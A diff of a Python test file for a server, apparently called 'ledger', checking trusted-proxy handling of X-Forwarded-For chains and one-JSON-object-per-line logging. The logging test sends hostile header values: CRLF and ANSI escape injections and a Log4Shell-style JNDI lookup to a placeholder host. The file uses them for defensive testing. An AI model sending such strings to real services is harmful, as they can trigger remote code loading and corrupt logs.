@@ -183,20 +183,33 @@ def test_a_setting_that_cannot_be_creates_nothing(tmp_path: Path):
     assert {path.name for path in tmp_path.iterdir()} == {"server.log", "out.txt"}
 
 
-def test_a_forwarded_address_is_believed_from_a_trusted_proxy_only(start: Start):
+CHAINS = {
+    (): "127.0.0.0/24",
+    ("198.51.100.7",): "198.51.100.0/24",
+    ("203.0.113.66, 198.51.100.7",): "198.51.100.0/24",
+    ("203.0.113.66, 198.51.100.7, 10.1.2.3",): "198.51.100.0/24",
+    ("10.9.9.9, 198.51.100.7, 10.1.2.3, 10.1.2.4",): "198.51.100.0/24",
+    ("203.0.113.66", "198.51.100.7"): "198.51.100.0/24",
+    ("127.0.0.1, 2001:db8:1:2::7",): "2001:db8:1::/48",
+    ("203.0.113.66, not an address",): None,
+}
+"""What proxies add to, and whose network counts: that of the right-most hop that is none of them."""
+
+
+def test_t_09_a_forwarded_address_is_believed_from_a_trusted_proxy_only(start: Start):
     forwarded = {"X-Forwarded-For": "203.0.113.66, 198.51.100.7", "X-Forwarded-Proto": "https", "Forwarded": "for=x"}
     direct = start()
     direct.http.get("/healthz", headers=forwarded)
     until(lambda: direct.requests)
     assert [line["client"] for line in direct.requests] == ["127.0.0.0/24"]
-    behind_a_proxy = start(LEDGER_TRUSTED_PROXIES="127.0.0.0/8")
-    behind_a_proxy.http.get("/healthz", headers=forwarded)
-    behind_a_proxy.http.get("/healthz")
-    until(lambda: len(behind_a_proxy.requests) == 2)
-    assert [line["client"] for line in behind_a_proxy.requests] == ["198.51.100.0/24", "127.0.0.0/24"]
+    behind_proxies = start(LEDGER_TRUSTED_PROXIES="127.0.0.0/8,10.0.0.0/8")
+    for chain in CHAINS:
+        behind_proxies.http.get("/healthz", headers=[("X-Forwarded-For", line) for line in chain])
+    until(lambda: len(behind_proxies.requests) == len(CHAINS))
+    assert [line["client"] for line in behind_proxies.requests] == [*CHAINS.values()]
 
 
-def test_whatever_is_sent_each_line_of_the_log_is_one_json_object(start: Start):
+def test_t_08_whatever_is_sent_each_line_of_the_log_is_one_json_object(start: Start):
     server = start()
     token = server.sign_in(user_agent="\r\n\x1b[31m\u2028${jndi:ldap://evil.example}" + "x" * 7000)
     hostile = {**bearer(token), "User-Agent": "\x1b[31m${jndi}", "X-Request-Id": "\x1b[2J"}
